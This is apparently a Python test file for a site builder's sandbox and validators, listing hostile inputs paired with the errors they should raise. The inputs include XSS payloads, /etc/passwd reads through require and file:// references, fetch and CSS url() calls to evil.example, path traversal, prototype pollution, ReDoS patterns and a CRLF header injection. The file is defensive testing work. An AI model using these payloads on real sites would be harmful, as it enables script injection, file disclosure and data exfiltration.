"""Hostile rows: what editors must never be able to do, and what bugs of parsers are made of.

Each case says what has to happen: a problem that names the row, or a page that shows it as text.
"""
# ruff: noqa: E501  # a case reads best on one line

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from tests.sites import Block, Site

SHOW = "export default ({ text }) => <p className='shown'>{String(text)}</p>;"
LIVE = """export default function Live({ text }) { const [t, setT] = useState(text);
  return <p className="shown" onClick={() => setT("")}>{t}</p>; }"""


@dataclass(frozen=True, kw_only=True)
class Case:
    """A row, or a few, on a page of its own. `error`: what its problem says; else `text` is shown.

    Where the machine decides which of several bounds is met, `|` stands between their errors.

    `where` is how the problem's place begins; `component` and `page` are fields of the rows.
    """

    name: str
    error: str = ""
    where: str = ""
    text: str = ""
    component: dict[str, Any] = field(default_factory=dict)
    block: dict[str, Any] = field(default_factory=dict)
    page: dict[str, Any] = field(default_factory=dict)
    edit: str = ""

    def store(self, site: Site, number: int) -> None:
        key = self.page_key(number)
        row = {"key": f"hostile-{number}", "code": SHOW, **self.component}
        site.component(**row)
        page = {"key": key, "route": f"/{key}/", **self.page}
        site.page(page.pop("key"), Block(component=row["key"], **self.block), **page)
        if self.edit:
            site.sql(self.edit.replace("<component>", f"'{row['key']}'"))

    def page_key(self, number: int) -> str:
        return str(self.page.get("key", f"case-{number}"))


def code(name: str, source: str, error: str = "", **more: Any) -> Case:
    """A hostile component."""
    component = {"code": source, **more.pop("component", {})}
    where = "component hostile-" if error else ""
    return Case(name=name, component=component, error=error, where=where, **more)


def body(name: str, statements: str, error: str = "", **more: Any) -> Case:
    """A component whose body does something."""
    return code(name, f"export default function X(props) {{ {statements} }}", error, **more)


MARKUP = {
    "script end": "</script><script>window.hacked = 1</script>",
    "cdata end": "]]>",
    "comment": "<!-- <script>window.hacked = 1",
    "braces": "{{ 7*7 }}{{",
    "template": "{% raw %}{{ con.fig }}{% if",
    "attribute": "\"'`><img src=x onerror=window.hacked=1>",
    "entity": "&lt;b&gt;&amp;&#60;&nbsp",
    "separators": "\u2028 \u2029 \u202e\ufeff end",
    "style end": "</style><style>body{display:none}</style>",
    "title end": "</title></head><body onload=window.hacked=1>",
}

# Those that tell most, for columns with many places.
SHARP = {name: MARKUP[name] for name in ("script end", "attribute", "separators")}

CODE = [
    body("endless loop", "for (;;);", "CPU time"),
    code("endless loop on load", "while (true) {}\nexport default () => <b />;", "CPU time"),
    body(
        "catastrophic pattern", "return String(/^(a+)+$/.test('a'.repeat(90) + '!'));", "CPU time"
    ),
    body(
        "endless allocation",
        "const a = []; for (;;) a.push(new Array(1000).fill({}));",
        "memory|CPU time",
    ),
    body("endless text", "let s = 'x'; for (;;) s += s;", "string length"),
    body("stack overflow", "const f = () => f() + 1; return f();", "call stack"),
    body("endless components", "return <X />;", "CPU time"),
    body("huge output", "return <p>{'x'.repeat(5e6)}</p>;", "4000000"),
    body(
        "endless promises",
        "const f = () => Promise.resolve().then(f); f(); return 'x';",
        "promises",
    ),
    body("endless state", "const [n, setN] = useState(0); setN(n + 1); return n;", "without end"),
    body("object prototype", "Object.prototype.leak = 1; return 'x';", "extensible"),
    body("array prototype", "Array.prototype.map = () => ['evil']; return 'x';", "read only"),
    body("proto literal", "({}).__proto__.leak = 1; return 'x';", "extensible"),
    body(
        "constructor prototype", "props.constructor.prototype.leak = 1; return 'x';", "extensible"
    ),
    body(
        "define property",
        "Object.defineProperty(Object.prototype, 'leak', { value: 1 }); return 'x';",
        "extensible",
    ),
    body("global array", "globalThis.Array = 1; return 'x';", "read only"),
    body("global own", "globalThis.leak = 'evil'; return typeof leak;", text="undefined"),
    body("json", "JSON.parse = () => ({}); return 'x';", "read only"),
    body("react", "React.useState = () => [1]; return 'x';", "only a getter"),
    body("require by another name", "const r = require; return r('react-dom');", "require is not"),
    body(
        "require beside one's own",
        "const f = (require) => 1; const r = require; return r('react-dom');",
        "require_is_not_available_here is not defined",
    ),
    body("require of the global object", "return typeof globalThis.require;", text="undefined"),
    body("module", "return Object.keys(module.exports);", "module is not available"),
    body(
        "require", "return require('fs').readFileSync('/etc/passwd');", "require is not available"
    ),
    body("import()", "import('fs'); return 'x';", "import() is not available"),
    code(
        "import fs",
        "import fs from 'fs';\nexport default () => <p>{fs.x}</p>;",
        "the package fs is not in the toolchain",
    ),
    code(
        "import node:fs",
        "import fs from 'node:fs';\nexport default () => <p>{fs.x}</p>;",
        "is not loaded",
    ),
    code(
        "import url",
        "import x from 'https://evil.example/x.js';\nexport default () => <p>{x}</p>;",
        "is not loaded",
    ),
    code(
        "import file",
        "import x from '../../../../etc/passwd';\nexport default () => <p>{x}</p>;",
        "there is no file",
    ),
    code(
        "import data",
        "import x from 'data:text/javascript,export default 1';\nexport default () => <p>{x}</p>;",
        "is not loaded",
    ),
    code(
        "import runtime",
        "import x from '@robbieblocks/-runtime';\nexport default () => <p>{x}</p>;",
        "no component -runtime",
    ),
    code(
        "import traversal",
        "import x from '@robbieblocks/../../x';\nexport default () => <p>{x}</p>;",
        "no component",
    ),
    code("export from", "export * from 'fs';\nexport default () => <b />;", "not in the toolchain"),
    code("pragma", "/** @jsxImportSource preact */\nexport default () => <b />;", "preact"),
    body("fetch", "fetch('https://evil.example'); return 'x';", "prerendered"),
    body("process", "return process.env.HOME;", "process is not defined"),
    body("eval", "return eval('1');", "Code generation"),
    body("new Function", "return new Function('return this')();", "Code generation"),
    body("constructor", "return (() => 1).constructor('return this')();", "Code generation"),
    body(
        "wasm", "return typeof WebAssembly + typeof SharedArrayBuffer;", text="undefinedundefined"
    ),
    body("timer", "setTimeout(() => 1); return 'x';", "prerendered"),
    body("document", "return document.cookie;", "cookie"),
    body("throw null", "throw null;", "null"),
    body("throw trap", "throw new Proxy({}, { get() { throw 1; } });", "it threw 1"),
    body("object child", "return { a: 1 };", "an object can't be shown"),
    code("async", "export default async function X() { return <b />; }", "async"),
    code("no component", "export default 5;", "not a component"),
    code("empty", "", "no component was found"),
    code("blank", "  \n\t\n", "no component was found"),
    code("prose", "hello, this is not code", "Expected"),
    code("html", "<!doctype html><html><body>x</body></html>", "Expected"),
    code("syntax", "export default () => <div><p></div>;", "closing"),
    code("python", "def main():\n    print('x')", "Expected"),
    code("json text", '{"a": 1}', "no component was found"),
    code("two siblings", "<p>1</p>\n<p>2</p>", "several JSX elements"),
    code("module.exports", "module.exports = () => <b />;", "module is not available"),
    code("two components", "const A = () => <b />;\nconst B = () => <i />;", "several components"),
    code("two defaults", "export default () => <b />;\nexport default () => <i />;", "default"),
    code("very long", "const x = '" + "x" * 1_000_001 + "';", "1,000,000"),
    code("deep nesting", "export default () => " + "(" * 500 + "1" + ")" * 500 + ";", text="1"),
    code(
        "deeper nesting",
        "export default () => " + "[" * 100_000 + "]" * 100_000 + ";",
        "nests deeper than 5,000 levels",
    ),
    code(
        "deep elements",
        "export default () => " + "<i>" * 60_000 + "</i>" * 60_000 + ";",
        "nests deeper than 5,000 levels",
    ),
    code(
        "deep operators",
        "export default () => " + "!" * 300_000 + "1;",
        "nests deeper than 5,000 levels",
    ),
    code(
        "deep and broken",
        "export default () => " + "{[(" * 200_000,
        "nests deeper than 5,000 levels",
    ),
    code(
        "doubles when it is compiled",
        f'enum E {{ v0 = "{"x" * 16}",'
        + ",".join(f"v{n}=v{n - 1}+v{n - 1}" for n in range(1, 36))
        + "}\nexport default () => E.v35;",
        "could not compile",
    ),
    *(
        code(
            f"source map {number}",
            f"{SHOW}\n{comment}",
            text="ok",
            block={"props": {"text": "ok"}},
        )
        for number, comment in enumerate(
            [
                "//# sourceMappingURL=/dev/zero",
                "//@ sourceMappingURL=/etc/passwd",
                "/*# sourceMappingURL=/dev/stdin */",
                "/*@ sourceMappingURL=data:application/json,{ */",
            ]
        )
    ),
    code("a flood of calls", "f();" * 20_000 + "export default () => 'x';", "f is not defined"),
    code(
        "a flood of import()",
        "import('fs');" * 5_000 + "export default () => 'x';",
        "import() is not available",
    ),
    code(
        "bom",
        "\ufeffexport default ({ text }) => <p className='shown'>{text}</p>;",
        text="ok",
        block={"props": {"text": "ok"}},
    ),
    code("crlf", SHOW.replace(" ", "\r\n", 1), text="ok", block={"props": {"text": "ok"}}),
    code(
        "unicode names",
        "const Ärger = ({ text }) => <p className='shown'>{text}</p>;\nexport default Ärger;",
        text="ok",
        block={"props": {"text": "ok"}},
    ),
    body(
        "raw script",
        "return <p dangerouslySetInnerHTML={{ __html: '<script>window.hacked = 1</script>' }} />;",
        "<script>",
    ),
    body(
        "raw handler",
        "return <p dangerouslySetInnerHTML={{ __html: '<img src=x onerror=1>' }} />;",
        "onerror",
    ),
    body(
        "raw end tags",
        "return <p dangerouslySetInnerHTML={{ __html: '</p></div></main>' }} />;",
        "leaves the block",
    ),
    body(
        "raw comment",
        "return <p dangerouslySetInnerHTML={{ __html: '<!-- open' }} />;",
        "leaves the block",
    ),
    body("plaintext", "return <plaintext>x</plaintext>;", "leaves the block"),
    body("script element", "return <script>{'window.hacked = 1'}</script>;", "<script>"),
    body("base element", "return <base href='https://evil.example' />;", "<base>"),
    body(
        "meta refresh",
        "return <meta httpEquiv='refresh' content='0;url=https://evil.example' />;",
        "<meta>",
    ),
    body(
        "link element",
        "return <link rel='stylesheet' href='https://evil.example/x.css' precedence='x' />;",
        "<link>",
    ),
    body("srcdoc", "return <iframe srcDoc='<script>1</script>' title='x' />;", "srcdoc"),
    body("object element", "return <object data='x' />;", "<object>"),
    body("islands id", "return <p id='rb-islands'>[]</p>;", "rb-islands"),
    body("block id", "return <p id='b1'>x</p>;", "b1"),
    body("data-rb", "return <p data-rb-component='good'>x</p>;", "data-rb-component"),
    body("javascript url", "return <a href='javascript:window.hacked=1'>x</a>;", text="x"),
]

NAMES = {
    "traversal": ("../../etc", "that names don't have"),
    "slash": ("a/b", "that names don't have"),
    "look-alike": ("r\u043ebbie", "CYRILLIC SMALL LETTER O"),
    "rtl mark": ("rob\u202eeibb", "RIGHT-TO-LEFT OVERRIDE"),
    "zero width": ("rob\u200bbie", "ZERO WIDTH SPACE"),
    "quote": ('a"><script>', "that names don't have"),
    "newline": ("a\nb", "U+000A"),
    "empty": ("", "is empty"),
    "capitals": ("Robbie", "capital letters"),
    "braces": ("{{name}}", "that names don't have"),
    "template": ("{% x %}", "that names don't have"),
    "comment": ("<!--", "that names don't have"),
    "cdata": ("]]>", "that names don't have"),
    "backslash": ("a\\..\\b", "that names don't have"),
}
ROUTES = {
    "traversal": ("/a/../../x", "`..`"),
    "scheme": ("https://evil.example/", "a scheme or a host"),
    "host": ("//evil.example/", "a scheme or a host"),
    "javascript": ("javascript:alert(1)", "a scheme or a host"),
    "query": ("/a?b", "a query"),
    "fragment": ("/a#b", "a fragment"),
    "encoded": ("/%2e%2e/x", "percent-encoding"),
    "script": ("/</script><script>", "U+003C"),
    "braces": ("/{{", "U+007B"),
    "template": ("/{%", "percent-encoding"),
    "comment": ("/<!--", "U+003C"),
    "cdata": ("/]]>", "U+005D RIGHT SQUARE BRACKET"),
    "reserved": ("/_rb/x", "kept for files"),
    "hidden": ("/.git/config", "a dot"),
    "newline": ("/a\nb", "U+000A"),
    "rtl mark": ("/a\u202eb", "RIGHT-TO-LEFT"),
    "look-alike": ("/pl\u0430y", "mixes Cyrillic"),
    "empty": ("", "empty"),
}


def in_columns(name: str, markup: str) -> Iterator[Case]:
    """A markup in each text column of pages, components and page blocks."""
    shown = {"props": {"text": markup}}
    yield Case(name=f"page_name: {name}", page={"name": markup})
    yield Case(name=f"meta_title: {name}", page={"title": markup})
    yield Case(name=f"meta_description: {name}", page={"description": markup})
    yield Case(
        name=f"metadata: {name}",
        page={
            "metadata": {
                "og_title": markup,
                "og_image_alt": markup,
                "robots": markup,
                "json_ld": {"name": markup},
                markup: markup,
            }
        },
    )
    yield Case(
        name=f"layout_template: {name}",
        page={"layout": markup[:50]},
        error="unknown layout",
        where="page case-",
    )
    yield Case(name=f"props: {name}", block=shown, text=markup)
    yield Case(name=f"props, live: {name}", component={"code": LIVE}, block=shown, text=markup)
    yield Case(
        name=f"zone: {name}",
        block={"zone": markup[:50]},
        error="unknown zone",
        where="component hostile-",
    )
    yield Case(
        name=f"conditions: {name}",
        block={"conditions": {markup: 1}},
        error="unknown condition operator",
        where="component hostile-",
    )
    yield Case(
        name=f"query: {name}",
        block={"conditions": {"not": {"query": {markup: markup}}}, **shown},
        text=markup,
    )
    yield Case(name=f"component_name: {name}", component={"name": markup}, block=shown, text=markup)
    yield Case(
        name=f"react_code: {name}",
        component={
            "code": f"export default () => <p className='shown'>{{{json.dumps(markup)}}}</p>;"
        },
        text=markup,
    )
    yield Case(
        name=f"css_styles: {name}",
        component={
            "css": f".shown::after {{ content: {json.dumps(markup.replace('</style', '</s'))}; }}"
        },
        block=shown,
        text=markup,
    )
    yield Case(
        name=f"props_schema: {name}",
        component={
            "schema": {
                "text": {
                    "type": "string",
                    "title": markup,
                    "description": markup,
                    "default": markup,
                }
            }
        },
        text=markup,
    )
    yield Case(
        name=f"dependencies: {name}",
        component={"dependencies": [markup]},
        error="dependencies",
        where="component hostile-",
    )
    yield Case(
        name=f"component metadata: {name}",
        component={"metadata": {"hydrate": markup}},
        error="expected when to hydrate",
        where="component hostile-",
    )


OTHERS = [
    *(
        Case(name=f"component_key: {name}", component={"key": key}, error=said, where="component ")
        for name, (key, said) in NAMES.items()
    ),
    *(
        Case(
            name=f"page_key: {name}",
            page={"key": key, "route": f"/named-{n}/"},
            error=said,
            where="page ",
        )
        for n, (name, (key, said)) in enumerate(NAMES.items())
    ),
    *(
        Case(name=f"page_route: {name}", page={"route": route}, error=said, where="page case-")
        for name, (route, said) in ROUTES.items()
    ),
    Case(
        name="css @import",
        component={"css": "@import 'https://evil.example/x.css';"},
        error="@import is not available",
        where="component hostile-",
    ),
    Case(
        name="css elsewhere",
        component={"css": ".a { background: url(https://evil.example/x) }"},
        error="is elsewhere",
        where="component hostile-",
    ),
    Case(
        name="css closes",
        component={"css": ".a { color: red } }\nbody { display: none }"},
        error="}",
        where="component hostile-",
    ),
    Case(
        name="css open",
        component={"css": ".a { color: red"},
        error="never closed",
        where="component hostile-",
    ),
    Case(
        name="css comment",
        component={"css": "/* open"},
        error="never closed",
        where="component hostile-",
    ),
    Case(
        name="css escapes its scope",
        component={
            "css": ":root, html, body, .rb-block, * { display: none } @layer node { p { color: red } }"
        },
        block={"props": {"text": "ok"}},
        text="ok",
    ),
    Case(
        name="css font",
        component={"css": "@font-face { font-family: x; src: url(//evil.example/f) }"},
        error="@font-face is not available",
        where="component hostile-",
    ),
    Case(
        name="css charset",
        component={"css": "@charset 'utf-7';"},
        error="@charset",
        where="component hostile-",
    ),
    Case(
        name="remote $ref",
        component={"schema": {"text": {"$ref": "http://127.0.0.1:9/x.json"}}},
        error="none is fetched",
        where="component hostile-",
    ),
    Case(
        name="file $ref",
        component={"schema": {"text": {"$ref": "file:///etc/passwd"}}},
        error="none is fetched",
        where="component hostile-",
    ),
    Case(
        name="catastrophic schema",
        component={"schema": {"text": {"type": "string", "pattern": "^(a+)+$"}}},
        block={"props": {"text": "a" * 60_000 + "!"}},
        error="/text",
        where="component hostile-",
    ),
    Case(
        name="look-behind schema",
        component={"schema": {"text": {"pattern": "(?<=a)b"}}},
        error="looks around or back",
        where="component hostile-",
    ),
    Case(
        name="invalid schema",
        component={"schema": {"text": {"type": "strng"}}},
        error="/text/type",
        where="component hostile-",
    ),
    Case(
        name="schema is a list",
        component={"schema": []},
        error="neither a JSON Schema",
        where="component hostile-",
    ),
    Case(
        name="wrong props",
        component={"schema": {"text": {"type": "integer"}}},
        block={"props": {"text": "x"}},
        error='"x" is not of type "integer"',
        where="component hostile-",
    ),
    Case(
        name="props are a list",
        block={"props": []},
        error="props are not an object",
        where="component hostile-",
    ),
    Case(
        name="prototype in props",
        block={"props": {"__proto__": {"leak": 1}}},
        error="prototype",
        where="component hostile-",
    ),
    Case(
        name="constructor in props",
        block={"props": {"constructor": {"prototype": {"leak": 1}}, "text": "ok"}},
        text="ok",
    ),
    Case(
        name="a megabyte of props",
        block={"props": {"text": "<&\u2028" * 200_000}},
        text="<&\u2028" * 200_000,
    ),
    Case(
        name="more than a megabyte",
        block={"props": {"text": "x" * 1_100_000}},
        error="bytes as JSON",
        where="component hostile-",
    ),
    Case(
        name="deep props",
        block={"props": {"text": json.loads("[" * 80 + "]" * 80)}},
        error="64 levels",
        where="component hostile-",
    ),
    Case(
        name="number out of range",
        edit="UPDATE robbieblocks_page_blocks b SET props = '{\"text\": 1e400}' FROM robbieblocks_components c WHERE component_id = c.id AND component_key = <component>",
        text="1" + "0" * 400,
    ),
    Case(
        name="integer out of range",
        edit="UPDATE robbieblocks_page_blocks b SET props = '{\"text\": 123456789012345678901234567890}' FROM robbieblocks_components c WHERE component_id = c.id AND component_key = <component>",
        error="beyond what a browser's numbers hold",
        where="component hostile-",
    ),
    Case(
        name="a surrogate pair",
        edit='UPDATE robbieblocks_page_blocks b SET props = \'{"text": "\\ud83d\\ude00"}\' FROM robbieblocks_components c WHERE component_id = c.id AND component_key = <component>',
        text="\U0001f600",
    ),
    Case(
        name="huge viewport",
        block={"conditions": {"viewport": {"min": 10**300}}},
        error="a width in CSS px",
        where="component hostile-",
    ),
    Case(
        name="unknown operator",
        block={"conditions": {"$where": "1"}},
        error="unknown condition operator",
        where="component hostile-",
    ),
    Case(
        name="bad instant",
        block={"conditions": {"from": "9999-99-99T00:00:00Z"}},
        error="RFC 3339",
        where="component hostile-",
    ),
    *(
        Case(
            name=f"metadata, {place}: {name}",
            page={"metadata": metadata},
            error=f"/{place}",
            where="page case-",
        )
        for name, text in SHARP.items()
        for place, metadata in {
            "lang": {"lang": text},
            "dir": {"dir": text},
            "form_action/0": {"form_action": [text]},
            "redirect_from/0": {"redirect_from": [text]},
            "head/links/0/href": {"head": {"links": [{"rel": "me", "href": text}]}},
            "head/metas/0/property": {"head": {"metas": [{"property": text, "content": "x"}]}},
        }.items()
    ),
    Case(
        name="metadata is a list",
        page={"metadata": [1]},
        error="metadata is not an object",
        where="page case-",
    ),
    Case(
        name="unpublished",
        component={"published": False},
        error="not published",
        where="page case-",
    ),
    Case(
        name="node route of another page",
        page={"route": "/good-too/"},
        error="also that of page",
        where="page ",
    ),
]
CASES = [
    *CODE,
    *OTHERS,
    *(case for name, text in MARKUP.items() for case in in_columns(name, text)),
]

REFUSED = {
    "NUL in a text": ("UPDATE robbieblocks_pages SET page_name = 'a' || chr(0)", "null character"),
    "NUL in JSON": (
        'UPDATE robbieblocks_pages SET metadata = \'{"a": "\\u0000"}\'',
        "Unicode escape",
    ),
    "half a surrogate pair": (
        'UPDATE robbieblocks_pages SET metadata = \'{"a": "\\ud800"}\'',
        "surrogate",
    ),
    "surrogates swapped": (
        'UPDATE robbieblocks_pages SET metadata = \'{"a": "\\ude00\\ud83d"}\'',
        "surrogate",
    ),
    "not a number": (
        "UPDATE robbieblocks_pages SET metadata = '{\"a\": NaN}'",
        "invalid input syntax",
    ),
    "settings that are a list": (
        "UPDATE robbieblocks_node_branding SET settings = '[1]'",
        "settings_check",
    ),
    "a key of 256 characters": (
        "UPDATE robbieblocks_pages SET page_key = repeat('a', 256)",
        "too long",
    ),
    "an app of 51 characters": (
        "UPDATE robbieblocks_pages SET app_namespace = repeat('a', 51)",
        "too long",
    ),
    "two blocks in one place": (
        "INSERT INTO robbieblocks_page_blocks (page_id, component_id, block_order, zone) SELECT page_id, component_id, block_order, zone FROM robbieblocks_page_blocks",
        "unique",
    ),
    "a block without its page": (
        "INSERT INTO robbieblocks_page_blocks (page_id, component_id, block_order, zone) SELECT gen_random_uuid(), component_id, 1, zone FROM robbieblocks_page_blocks LIMIT 1",
        "foreign key",
    ),
    "an order out of range": (
        "UPDATE robbieblocks_page_blocks SET block_order = 3000000000",
        "out of range",
    ),
}

_NO_SETTINGS: list[Any] = ["x" * 9_000, [[[]]]]

NODES: list[tuple[str, dict[str, Any], str]] = [
    *((f"node_name: {name}", {"node_name": text}, "") for name, text in MARKUP.items()),
    *(
        (
            f"custom_css: {name}",
            {"custom_css": f"p::after {{ content: {json.dumps(text.replace('</style', '</s'))} }}"},
            "",
        )
        for name, text in MARKUP.items()
    ),
    *(
        (
            f"custom_scripts: {name}",
            {"custom_scripts": f"document.body.dataset.said = {json.dumps(text)};"},
            "",
        )
        for name, text in MARKUP.items()
    ),
    *(
        (f"style_overrides: {name}", {"style_overrides": {"color.primary": text}}, "color.primary")
        for name, text in MARKUP.items()
        if name not in ("cdata end", "separators", "entity")
    ),
    *(
        (f"override key: {name}", {"style_overrides": {text: "red"}}, "style_overrides")
        for name, text in MARKUP.items()
    ),
    *(
        (f"enabled_apps: {name}", {"enabled_apps": ["play", text[:50]]}, "enabled_apps")
        for name, text in MARKUP.items()
    ),
    ("css closes its layer", {"custom_css": "} body { display: none }"}, "custom_css"),
    ("css @import", {"custom_css": "@import '//evil.example/x.css';"}, "@import"),
    (
        "css elsewhere",
        {"custom_css": "p { background: url(https://evil.example) }"},
        "leads elsewhere",
    ),
    ("css end of style", {"custom_css": "/* </style> */"}, "ends markup"),
    (
        "value closes its rule",
        {"style_overrides": {"color.primary": "red; } body { display: none"}},
        "holds `;`",
    ),
    ("css of 5,000 digits", {"custom_css": "p { width: " + "9" * 5_000 + "px }"}, "5,000 digits"),
    ("css with a NUL by escape", {"custom_css": "p::after { content: '\\0 \\d800 x' }"}, ""),
    ("css 6,000 deep", {"custom_css": "a{" * 6_000}, "deeper than 32"),
    ("css over a line", {"custom_css": "p { content: 'x\ny' }"}, "not closed on its line"),
    ("css behind an escape", {"custom_css": "p { color: red \\}"}, "never closed"),
    ("css @import by escape", {"custom_css": "@\\69mport 'https://evil.example';"}, "@import"),
    ("css text", {"custom_css": "color: red"}, "not CSS"),
    ("script without an end", {"custom_scripts": "if (1) { `${'"}, "can't be read as JavaScript"),
    ("script of a source map", {"custom_scripts": "1\n//# sourceMappingURL=/etc/passwd"}, ""),
    ("script of two megabytes", {"custom_scripts": "1;" * 1_100_000}, "characters"),
    (
        "override of 5,000 digits",
        {"style_overrides": {"color.primary": "9" * 5_000}},
        "5,000 digits",
    ),
    ("override of a list", {"style_overrides": {"color.primary": ["red"]}}, "color.primary"),
    ("override out of range", {"style_overrides": {"color.primary": 10**30}}, "color.primary"),
    (
        "override 12 deep",
        {"style_overrides": json.loads('{"a":' * 12 + "1" + "}" * 12)},
        "too deep",
    ),
    ("override given twice", {"style_overrides": {"a.b": "1", "a": {"b": "2"}}}, "given twice"),
    ("override of two names", {"style_overrides": {"a.b": "1", "a-b": "2"}}, "both --a-b"),
    ("override of an escape", {"style_overrides": {"color.primary": "red\\"}}, "open"),
    (
        "override of an address",
        {"style_overrides": {"color.primary": "u\\72l(//evil.example)"}},
        "elsewhere",
    ),
    (
        "font of an address",
        {"style_overrides": {"font.body": "url(https://evil.example)"}},
        "elsewhere",
    ),
    ("font of 900 names", {"style_overrides": {"font.body": "x y, " * 900 + "serif"}}, ""),
    ("address of a script", {"base_url": "javascript:alert(1)"}, "base_url"),
    ("address of another host", {"base_url": "//evil.example"}, "base_url"),
    ("address of a user", {"base_url": "https://a:b@evil.example"}, "base_url"),
    ("address of a far port", {"base_url": "https://a.example:99999"}, "base_url"),
    ("address of a bracket", {"base_url": "https://[::1"}, "base_url"),
    ("address of a quote", {"base_url": 'https://a.example/"><script>'}, "base_url"),
    ("apps of nothing", {"enabled_apps": ["play", ""]}, "enabled_apps"),
    ("apps of the assets", {"enabled_apps": ["play", "assets"]}, "enabled_apps"),
    ("apps above", {"enabled_apps": ["play", "..", "../../etc"]}, "enabled_apps"),
    ("app twice", {"enabled_apps": ["play", "play"]}, ""),
    ("unknown theme", {"style_overrides": {"theme": "blue"}}, "unknown theme"),
    ("overrides are a list", {"style_overrides": [1]}, "style_overrides"),
    *(
        (f"settings, {place}: {name}", {"settings": settings}, f"/{place}")
        for name, text in SHARP.items()
        for place, settings in {
            "hosts": {"hosts": {text: ["scripts"]}},
            "scripts/0/src": {"scripts": [{"src": text}]},
            "scripts/0/integrity": {"scripts": [{"src": "/a.js", "integrity": text}]},
            "head/links/0/href": {"head": {"links": [{"rel": "me", "href": text}]}},
            "head/metas/0/name": {"head": {"metas": [{"name": text, "content": "x"}]}},
            "icons/favicon": {"icons": {"favicon": f"media:{text}"}},
            "icons/source": {"icons": {"source": f"media:{text}"}},
            "manifest/start_url": {"manifest": {"start_url": text}},
            "framed_by/0": {"framed_by": [text]},
            "permissions/camera/0": {"permissions": {"camera": [text]}},
            "reports": {"reports": text},
            "report_only/hosts": {"report_only": {"hosts": {text: ["images"]}}},
        }.items()
    ),
    *(
        (f"settings, text: {name}", {"settings": settings}, "")
        for name, text in SHARP.items()
        for settings in (
            {"head": {"metas": [{"name": "author", "content": text}]}},
            {"manifest": {"short_name": text[:45]}},
            {
                "scripts": [{"src": "/a.js", "consent": "all", "data": {"said": text}}],
                "consent": {"text": text, "accept": text, "decline": text},
            },
        )
    ),
    *(
        (f"settings, form: {key} {value!r:.20}", {"settings": {key: value}}, f"at /{key}")
        for key in (
            "hosts",
            "scripts",
            "consent",
            "head",
            "icons",
            "manifest",
            "framed_by",
            "permissions",
            "referrer",
            "report_only",
            "reports",
            "schemes",
            "social_card",
            "trusted_types",
            "languages",
            "no-such",
        )
        for value in _NO_SETTINGS
    ),
    (
        "settings of 20,000 unknown keys",
        {"settings": {f"k{n}": n for n in range(20_000)}},
        "unknown here",
    ),
    (
        "settings of 10,000 hosts",
        {"settings": {"hosts": {f"https://a{n}.example": [] for n in range(10_000)}}},
        "10,000 entries",
    ),
    (
        "a header of two lines",
        {"settings": {"reports": "https://a.example/\r\nSet-Cookie: a=b"}},
        "at /reports",
    ),
]

TOKENS = {
    "closes its rule": ("hostile.token", "red; } body { display: none", "holds `;`"),
    "script end": ("hostile.token", "</script>", "holds `<`"),
    "cdata end": ("hostile.token", "]]>", ""),
    "comment": ("hostile.token", "<!--", "holds `<!--`"),
    "braces": ("hostile.token", "{{", ""),
    "template": ("hostile.token", "{% x %}", ""),
    "elsewhere": ("hostile.token", "url(https://evil.example/x)", "leads elsewhere"),
    "import": ("hostile.token", "@import 'x'", "@import"),
    "key closes": ("x: red} body{", "red", "letters and digits"),
    "key script": ("</script>", "red", "letters and digits"),
    "key look-alike": ("c\u043elor", "red", "CYRILLIC"),
    "empty": ("hostile.token", "", "empty"),
    "blank": ("hostile.token", " \n\t", "empty"),
    "5,000 digits": ("hostile.token", "9" * 5_000, "5,000 digits"),
    "6,000 brackets": ("hostile.token", "(" * 6_000, "open"),
    "escape at the end": ("hostile.token", "red\\", "open"),
    "escaped address": ("hostile.token", "u\\72l(//evil.example)", "elsewhere"),
    "address of a fallback": ("hostile.token", "var(--x, url(//evil.example))", "elsewhere"),
    "quote over a line": ("hostile.token", "'a\nb'", "not closed on its line"),
    "important": ("hostile.token", "red !important", "holds `!`"),
    "comment that hides": ("hostile.token", "red /* x", "open"),
    "control": ("hostile.token", "red\x1b[2J", "invisible"),
    "right to left": ("hostile.token", "red\u202e", "invisible"),
    "10,001 characters": ("hostile.token", "x" * 10_001, "10,001 characters"),
    "key kept for themes": ("theme", "red", "kept for dark and light"),
    "key of dots": ("a..b", "red", "letters and digits"),
    "key of controls": ("a\x1bb", "red", "U+001B"),
}
